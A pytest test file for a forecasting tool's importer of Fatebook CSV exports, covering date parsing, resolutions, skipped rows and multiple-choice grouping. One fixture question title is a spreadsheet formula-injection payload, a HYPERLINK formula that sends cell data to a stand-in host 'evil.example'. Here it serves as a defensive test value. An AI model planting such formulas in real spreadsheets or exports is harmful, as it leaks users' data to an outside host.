"""Fatebook's CSV export, column for column (tests/fixtures/trackers/fatebook.csv is written the way
Fatebook writes it: quoted strings, bare numbers and dates, unpadded seconds, rows joined by LF)."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from forecast.core.errors import InvalidInput
from forecast.ingest.trackers import fatebook
from forecast.ingest.trackers.common import micros, zone


def us(*args, tz=UTC) -> int:
    return micros(datetime(*args), tz)


@pytest.fixture
def conv(fixtures):
    return fatebook.convert(str(fixtures / "fatebook.csv"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-03-05 14:07:3", datetime(2024, 3, 5, 14, 7, 3)),
        ("2024-03-05 14:07:03", datetime(2024, 3, 5, 14, 7, 3)),
        ("2024-3-5 4:7:3", datetime(2024, 3, 5, 4, 7, 3)),
        ("2024-03-05 14:07:3.5", datetime(2024, 3, 5, 14, 7, 3, 500000)),
        ("2024-03-05T14:07:03Z", datetime(2024, 3, 5, 14, 7, 3, tzinfo=UTC)),
    ],
)
def test_dates_with_unpadded_seconds(text, expected):
    assert fatebook.parse_stamp(text, "x") == expected


@pytest.mark.parametrize("text", ["yesterday", "2024-03-05", "2024-13-05 14:07:3", "2024-03-05 14:07:60", ""])
def test_bad_dates_are_refused(text):
    with pytest.raises(InvalidInput):
        fatebook.parse_stamp(text, "Forecast created at")


def test_questions_resolutions_and_tags(conv):
    by_title = {}
    for q in conv.batch.questions:
        by_title.setdefault(q.title, []).append(q)
    rain = by_title["Will it rain in London on 6 March?"]
    assert [q.resolution for q in rain] == ["yes", "no"]  # same title, two questions
    assert rain[0].slug != rain[1].slug and all(q.slug.startswith("fb-will-it-rain") for q in rain)
    assert rain[0].opens_at == us(2024, 3, 5, 14, 7, 3)
    # resolved after "resolve by": forecasting stayed open until the resolution
    assert rain[0].resolves_at == us(2024, 3, 7)
    assert rain[0].closes_at == rain[0].resolved_at == us(2024, 3, 7, 9, 15, 42)
    formula = next(q for q in conv.batch.questions if q.title.startswith("="))
    assert formula.title == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (formula.resolution, formula.status) == ("annulled", "annulled")
    assert formula.tags == ["health", "work"]
    assert formula.description == 'Notes with "quotes"\nand a second line'
    office = by_title["Will the new office open by June?"][0]
    assert (office.resolution, office.resolved_at, office.status) == (None, None, "open")
    cup = by_title["Which team wins the cup?"][0]  # Alice's Red 60 %, Blue 40 %: one choice forecast
    assert (cup.kind, cup.status) == ("choice", "open")


def test_forecasts_and_skipped_rows(conv):
    got = [(line, f.forecaster, f.probability) for f, line in zip(conv.batch.forecasts, conv.batch.forecast_lines)]
    assert got == [
        (2, "Alice", 0.7), (3, "Bob", 0.4), (4, "Alice", 0.85), (6, "Alice", 0.2), (7, "Bob", 0.1),
        (8, "Alice", 0.5), (16, "Alice", 0.4), (12, "Alice", 0.6),
    ]  # fmt: skip
    assert conv.batch.forecasts[-1].vector == (0.4, 0.6, 0.0)  # blue, red, other
    assert conv.batch.forecasts[2].made_at == us(2024, 3, 6, 8, 0, 9)
    reasons = dict(conv.batch.skipped)
    assert reasons[5] == "duplicate of line 3"
    assert reasons[10].startswith("replaced by line 16")
    assert "1.7" in reasons[13]
    assert "yesterday" in reasons[14]
    assert reasons[15] == "expected 17 columns, found 4"
    assert sorted(reasons) == [5, 10, 13, 14, 15]
    assert conv.notes["late_forecasts"] == 1  # Bob forecast after question B resolved
    assert conv.notes["never_scored_questions"] == 0


def test_slugs_do_not_depend_on_the_time_zone(fixtures):
    utc = fatebook.convert(str(fixtures / "fatebook.csv"))
    london = fatebook.convert(str(fixtures / "fatebook.csv"), tz=zone("America/New_York"))
    assert [q.slug for q in utc.batch.questions] == [q.slug for q in london.batch.questions]
    assert london.batch.forecasts[0].made_at == us(2024, 3, 5, 14, 7, 3, tz=zone("America/New_York"))
    assert london.batch.forecasts[0].made_at - utc.batch.forecasts[0].made_at == 5 * 3600 * 10**6


def test_a_changed_header_is_refused(tmp_path, fixtures):
    text = (fixtures / "fatebook.csv").read_text().replace("Question tags", "Tags", 1)
    path = tmp_path / "f.csv"
    path.write_text(text)
    with pytest.raises(InvalidInput, match="missing 'Question tags'; unexpected 'Tags'"):
        fatebook.convert(str(path))


def test_an_excel_byte_order_mark_is_ignored(tmp_path, fixtures):
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + (fixtures / "fatebook.csv").read_bytes())
    assert len(fatebook.convert(str(path)).batch.forecasts) == 8


def test_resolution_without_time_is_a_bad_row(tmp_path):
    header = ",".join(fatebook.HEADER)
    row = '"Q",,"A",0.5,2024-01-01 00:00:0,"A",2024-01-01 00:00:0,2024-02-01 00:00:0,"YES",,,,"",,false,"",""'
    path = tmp_path / "f.csv"
    path.write_text(header + "\n" + row)
    conv = fatebook.convert(str(path))
    assert conv.batch.skipped == [(2, "Resolution YES without a 'Resolved at' time")]
    assert conv.batch.questions == [] and conv.batch.forecasts == []


# --- multiple-choice rows: grouping, and rows Fatebook would not write ------------------------------------------

import csv  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import math  # noqa: E402
import re  # noqa: E402

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from forecast.core.kind_spec import KindSpec  # noqa: E402
from forecast.ingest.trackers import fatebook_mc  # noqa: E402

CREATED = "2025-01-01 10:00:0"


def mc_row(option, p, made="2025-01-02 10:00:0", who="Alice", title="Which team wins?", resolution="",
           resolved="", brier="", created=CREATED) -> dict:  # fmt: skip
    return {"Question title": title, "Multiple choice option": option, "Forecast created by": who,
            "Forecast (scale = 0-1)": p, "Forecast created at": made, "Question created by": "Alice",
            "Question created at": created, "Question resolve by": "2025-06-01 00:00:0", "Resolution": resolution,
            "Resolved at": resolved, "Your Brier score for this question": brier,
            "Your relative Brier score for this question": "", "Question notes": "", "Question shared with": "",
            "Question shared publicly": "false", "Question comments": "", "Question tags": "sport"}  # fmt: skip


def write_csv(path, rows: list[dict]) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)  # printForCsv quotes every string
    w.writerow(fatebook.HEADER)
    w.writerows([[r[c] for c in fatebook.HEADER] for r in rows])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return str(path)


def conv_of(tmp_path, rows):
    return fatebook.convert(write_csv(tmp_path / "mc.csv", rows))


def test_rows_that_disagree_with_their_question_are_skipped(tmp_path):
    rows = [mc_row("Red", "0.6"), mc_row("Blue", "0.4"), mc_row("", "0.5", who="Bob"),
            mc_row("Red", "0.7", title="Binary?"), mc_row("", "0.2", title="Binary?"), mc_row("", "0.3", title="Binary?", who="Bob")]  # fmt: skip
    conv = conv_of(tmp_path, rows)
    reasons = dict(conv.batch.skipped)
    assert reasons[4] == "no 'Multiple choice option' on a row of a multiple-choice question (2 of its rows name an option, 1 do not)"
    assert reasons[5] == "multiple-choice option 'Red' on a binary question (2 of its rows name no option, 1 do)"
    assert sorted(reasons) == [4, 5]
    assert {q.title: q.kind for q in conv.batch.questions} == {"Which team wins?": "choice", "Binary?": "binary"}


def test_repeated_and_bad_option_rows(tmp_path):
    rows = [mc_row("Red", "0.6"), mc_row("Red", "0.6"), mc_row("Blue", "0.3"), mc_row("Blue", "0.35"),
            mc_row("Green", "1.5"), mc_row("Green", "0.1", made="yesterday"), mc_row("\x01", "0.1"),
            mc_row("Gr\x00ey", "0.1"), mc_row("Green", "0.05", who=" ")]  # fmt: skip
    conv = conv_of(tmp_path, rows)
    reasons = dict(conv.batch.skipped)
    assert reasons[3] == "duplicate of line 2"
    assert reasons[4] == "replaced by line 5 (same forecaster, option and time, another probability)"
    assert reasons[6] == "Forecast (scale = 0-1) '1.5' is not between 0 and 1"
    assert reasons[7] == "Forecast created at 'yesterday' is not a date-time"
    assert reasons[8] == "multiple-choice option '\\x01' has no visible text"
    assert "NUL" in reasons[9] or "\\x00" in reasons[9]
    assert reasons[10] == "no forecaster name in 'Forecast created by'"
    assert sorted(reasons) == [3, 4, 6, 7, 8, 9, 10]
    (f,) = conv.batch.forecasts  # Blue 35 % (the later row) and Red 60 %, at one time
    assert f.vector == (0.35, 0.6, 0.050000000000000044) and f.entered == "blue=0.35 red=0.6 other=0.05"
    assert (conv.notes["duplicate_rows"], conv.notes["replaced_rows"]) == (1, 1)


def test_option_keys_are_unique_and_do_not_depend_on_order():
    texts = ["Red", "red", "RED!", "Other", "日本", "中国", "  Spaced   out\tlabel ", "x" * 300]
    got = fatebook_mc.option_keys(texts)
    assert got == fatebook_mc.option_keys(list(reversed(texts)))
    keys = [k for _t, k, _l in got]
    assert len(set(keys)) == len(keys) and "other" not in keys
    by_text = {t: (k, label) for t, k, label in got}
    assert [by_text[t][0] for t in ("Red", "red", "RED!")] == ["red", "red-2", "red-3"]
    assert by_text["Other"][0] == "other-2"  # `other` is the rest of the forecast
    assert {by_text["日本"][0], by_text["中国"][0]} == {"option", "option-2"}
    assert by_text["  Spaced   out\tlabel "][1] == "Spaced out label"
    assert len(by_text["x" * 300][1]) == 200 and len(by_text["x" * 300][0]) <= 40
    KindSpec.from_dict("choice", {"options": [{"key": k, "label": label} for _t, k, label in got]})


def test_sums_within_the_tolerance_are_normalised_and_beyond_it_the_options_are_binary(tmp_path):
    conv = conv_of(tmp_path, [mc_row("Red", "0.604"), mc_row("Blue", "0.4")])  # 100.4 %: within 0.5 %
    (f,) = conv.batch.forecasts
    assert math.fsum(f.vector) == 1.0 and f.vector[2] == 0.0
    assert f.vector[1] == pytest.approx(0.604 / 1.004, rel=1e-15)  # scaled as `predict` scales
    conv = conv_of(tmp_path, [mc_row("Red", "0.7"), mc_row("Blue", "0.4"), mc_row("Blue", "0.2", made="2025-01-03 10:00:0")])
    assert sorted(q.title for q in conv.batch.questions) == ["Which team wins? — Blue", "Which team wins? — Red"]
    assert any("Alice's forecasts sum to 110 % (line 3)" in m for m in conv.messages)
    assert len(conv.batch.forecasts) == 3 and conv.batch.skipped == []


def test_resolutions_of_multiple_choice_questions(tmp_path):
    def kinds(rows):
        conv = conv_of(tmp_path, rows)
        return conv, sorted((q.title, q.kind, q.resolution, q.outcome) for q in conv.batch.questions)

    at = "2025-05-01 12:00:0"
    conv, got = kinds([mc_row("Red", "0.6", resolution="YES", resolved=at), mc_row("Blue", "0.3", resolution="NO", resolved=at)])
    assert got == [("Which team wins?", "choice", "outcome", "red")]
    conv, got = kinds([mc_row("Red", "0.6", resolution="NO", resolved=at, brier="0.72"),
                       mc_row("Blue", "0.3", resolution="NO", resolved=at, brier="0.72")])  # fmt: skip
    assert got == [("Which team wins?", "choice", "outcome", "other")]  # scored, so OTHER
    conv, got = kinds([mc_row("Red", "0.6", resolution="NO", resolved=at), mc_row("Blue", "0.3", resolution="NO", resolved=at)])
    assert got == [("Which team wins?", "choice", None, None)] and "OTHER and for AMBIGUOUS alike" in conv.messages[-1]
    conv, got = kinds([mc_row("Red", "0.6", resolution="YES", resolved=at), mc_row("Blue", "0.3", resolution="YES", resolved=at)])
    assert got == [("Which team wins? — Blue", "binary", "yes", None), ("Which team wins? — Red", "binary", "yes", None)]
    conv, got = kinds([mc_row("Red", "0.6", resolution="AMBIGUOUS", resolved=at), mc_row("Blue", "0.3", resolution="NO", resolved=at)])
    assert got == [("Which team wins? — Blue", "binary", "no", None), ("Which team wins? — Red", "binary", "annulled", None)]
    conv, got = kinds([mc_row("Red", "0.6", resolution="YES", resolved=at), mc_row("Blue", "0.3")])
    assert [g[2] for g in got] == [None, "yes"] and "1 of its 2 options are resolved" in conv.messages[-1]
    conv, got = kinds([mc_row("Red", "0.6", resolution="YES", resolved=at), mc_row("Red", "0.5", who="Bob", resolution="NO", resolved=at),
                       mc_row("Red", "0.4", who="Carol", resolution="YES", resolved=at), mc_row("Blue", "0.3", resolution="NO", resolved=at)])  # fmt: skip
    assert dict(conv.batch.skipped) == {3: "option 'Red': its Resolution and 'Resolved at' differ from those of its other 2 row(s)"}
    assert got == [("Which team wins?", "choice", "outcome", "red")]


def test_more_options_than_a_choice_question_takes_become_binary_questions(tmp_path):
    rows = [mc_row(f"Option {i}", "0.01") for i in range(50)]
    conv = conv_of(tmp_path, rows)
    assert len(conv.batch.questions) == 50 and {q.kind for q in conv.batch.questions} == {"binary"}
    assert any("50 options: a choice question has at most 49 besides other" in m for m in conv.messages)


# A model of a Fatebook export with multiple-choice questions: its rows in any order give the same batch.
LABELS = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=8).filter(str.strip)
PROBS = st.sampled_from(["0", "0.05", "0.1", "0.25", "0.3", "0.5", "0.7", "1"])


@st.composite
def mc_exports(draw):
    rows = []
    for qi in range(draw(st.integers(1, 2))):
        options = draw(st.lists(LABELS, min_size=1, max_size=4, unique_by=str.strip))
        resolved = draw(st.sampled_from([None, "none", *options]))
        res_at = "2025-05-01 12:00:0"
        seen = set()
        for _ in range(draw(st.integers(1, 8))):
            opt = draw(st.sampled_from(options))
            who = draw(st.sampled_from(["Alice", "Bob", "Carol"]))
            made = f"2025-01-0{draw(st.integers(2, 4))} 10:00:{draw(st.integers(0, 2))}"
            if (opt.strip(), who, made) in seen:  # which of two rows at one time is later is the file's order
                continue
            seen.add((opt.strip(), who, made))
            res = "" if resolved is None else ("YES" if opt == resolved else "NO")
            rows.append(mc_row(opt, draw(PROBS), made=made, who=who, title=f"Question {qi}", resolution=res,
                               resolved=res_at if res else "", brier=draw(st.sampled_from(["", "0.3"]))))  # fmt: skip
    return rows


def canonical(conv) -> tuple:
    batch = conv.batch
    questions = sorted(tuple(str(v) for v in (q.slug, q.title, q.kind, q.kind_spec, q.status, q.resolution, q.outcome,
                                               q.opens_at, q.closes_at, q.resolved_at, q.tags)) for q in batch.questions)  # fmt: skip
    forecasts = sorted((f.question, f.forecaster, f.made_at, f.probability, f.vector, f.entered) for f in batch.forecasts)
    skipped = sorted(re.sub(r"line \d+", "line N", reason) for _line, reason in batch.skipped)
    return questions, forecasts, skipped, sorted(re.sub(r"line \d+", "line N", m) for m in conv.messages)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=mc_exports(), data=st.data())
def test_any_row_order_gives_the_same_batch(tmp_path, rows, data):
    shuffled = data.draw(st.permutations(rows))
    first = conv_of(tmp_path, rows)
    assert canonical(conv_of(tmp_path, shuffled)) == canonical(first)
    for q in first.batch.questions:  # what is stored reads back
        assert KindSpec.from_stored(q.kind, q.kind_spec).to_json() == q.kind_spec
    for f in first.batch.forecasts:
        if f.vector is not None:
            assert math.fsum(f.vector) == 1.0 and min(f.vector) >= 0.0
    used = len(first.batch.forecasts) + len(first.batch.skipped)
    assert used <= len(rows) and (not rows or first.batch.forecasts)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=mc_exports(), data=st.data())
def test_garbage_cells_are_refused_per_row(tmp_path, rows, data):
    garbage = st.one_of(st.text(max_size=12), st.sampled_from(["", " ", "nan", "1e400", "-0.1", "2", "YES", "MAYBE",
                                                               "2025-02-30 10:00:0", "\x00", "١٢", "0x1"]))  # fmt: skip
    columns = ["Multiple choice option", "Forecast created by", "Forecast (scale = 0-1)", "Forecast created at",
               "Question created at", "Question resolve by", "Resolution", "Resolved at", "Question title"]  # fmt: skip
    for row in rows:
        for column in data.draw(st.lists(st.sampled_from(columns), max_size=2)):
            row[column] = data.draw(garbage)
    try:
        conv = conv_of(tmp_path, rows)
    except InvalidInput as exc:  # only a whole-file problem (the CSV itself unreadable) may stop it
        assert str(exc).strip()
        return
    last = (tmp_path / "mc.csv").read_text(encoding="utf-8").count("\n") + 1  # a quoted cell may hold a line break
    assert all(2 <= line <= last and reason.strip() for line, reason in conv.batch.skipped)
    for q in conv.batch.questions:
        assert KindSpec.from_stored(q.kind, q.kind_spec).to_json() == q.kind_spec
    assert all(f.vector is None or math.fsum(f.vector) == 1.0 for f in conv.batch.forecasts)
    json.dumps([f.entered for f in conv.batch.forecasts])
